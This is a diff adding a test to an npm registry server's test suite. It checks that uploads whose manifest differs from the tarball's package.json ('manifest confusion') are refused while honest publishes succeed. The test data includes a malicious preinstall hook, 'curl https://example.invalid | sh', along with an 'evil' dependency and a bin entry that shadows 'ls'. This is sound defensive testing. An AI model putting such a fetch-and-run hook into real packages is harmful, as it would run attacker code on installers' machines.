@@ -391,3 +391,54 @@ def test_oversized_body_is_413(wharf_factory, tmp_path):
     p = npm.run("publish", cwd=d, check=False)
     assert p.returncode != 0 and "413" in p.stderr and "too large" in p.stderr.lower()
     assert w.ok("list-packages", *D, "--repository", "repo-1")["packages"] == []
+
+
+def test_manifest_confusion_is_refused_and_npm_publish_still_works(repos, tmp_path):
+    w = repos
+    tok = token(w)
+    npm = Npm(w, "repo-1", tmp_path / "n", tok=tok)
+    # A normal package that uses every rewrite npm applies between package.json and the
+    # manifest it sends: a string bin, bundledDependencies, node_modules/.bin in a script, a
+    # binding.gyp (npm adds `install: node-gyp rebuild`), a server.js (`start`), and bins
+    # listed from directories.bin.
+    publish(npm, "@my-namespace/normal", "1.0.0", bin="./cli.js",
+            dependencies={"left-pad": "^1.3.0"}, bundledDependencies=["left-pad"],
+            optionalDependencies={"fsevents": "^2"}, os=["linux", "darwin"], cpu=["x64", "arm64"],
+            engines={"node": ">=18"}, scripts={"test": "node_modules/.bin/tap"},
+            files_={"cli.js": b"#!/usr/bin/env node\n", "binding.gyp": b"{}\n", "server.js": b"1;\n"})
+    d = make_package(tmp_path / "pkgs", "dir-bins", "1.0.0", directories={"bin": "./tools"})
+    (d / "tools").mkdir()
+    (d / "tools" / "run-it").write_text("#!/usr/bin/env node\n")
+    npm.run("publish", cwd=d)
+    assert list(versions(w, "repo-1", "@my-namespace/normal")) == ["1.0.0"]
+    assert list(versions(w, "repo-1", "dir-bins")) == ["1.0.0"]
+
+    # The same kind of package, published by hand with a manifest that adds a preinstall
+    # script the tarball's package.json does not have.
+    d = make_package(tmp_path / "pkgs", "confused", "1.0.0", dependencies={"left-pad": "^1.3.0"})
+    packed = json.loads(npm.run("pack", "--json", "--pack-destination", str(tmp_path), cwd=d).stdout)[0]
+    tgz = (tmp_path / packed["filename"]).read_bytes()
+    blobs = w.data_dir / "blobs"
+    before = sorted(p.name for p in blobs.rglob("*") if p.is_file())
+    manifest = json.loads((d / "package.json").read_text())
+
+    def body(**changes):
+        version = {**manifest, **changes, "_id": "confused@1.0.0",
+                   "dist": {"integrity": packed["integrity"], "shasum": packed["shasum"]}}
+        return {"_id": "confused", "name": "confused", "dist-tags": {"latest": "1.0.0"},
+                "versions": {"1.0.0": version},
+                "_attachments": {"confused-1.0.0.tgz": {"data": base64.b64encode(tgz).decode(), "length": len(tgz)}}}
+
+    for changes, field in [({"scripts": {"preinstall": "curl https://example.invalid | sh"}}, "scripts"),
+                           ({"dependencies": {"left-pad": "^1.3.0", "evil": "*"}}, "dependencies"),
+                           ({"bin": {"ls": "index.js"}}, "bin"),
+                           ({"os": ["linux"]}, "os")]:
+        status, err = http(w, "PUT", "repo-1", "confused", body(**changes), tok)
+        assert status == 400, err
+        assert f'does not match the tarball\'s package.json in "{field}"' in err["error"], err
+    assert versions(w, "repo-1", "confused") == {}
+    assert sorted(p.name for p in blobs.rglob("*") if p.is_file()) == before
+    # The honest body is accepted.
+    status, _ = http(w, "PUT", "repo-1", "confused", body(), tok)
+    assert status in (200, 201)
+    assert list(versions(w, "repo-1", "confused")) == ["1.0.0"]
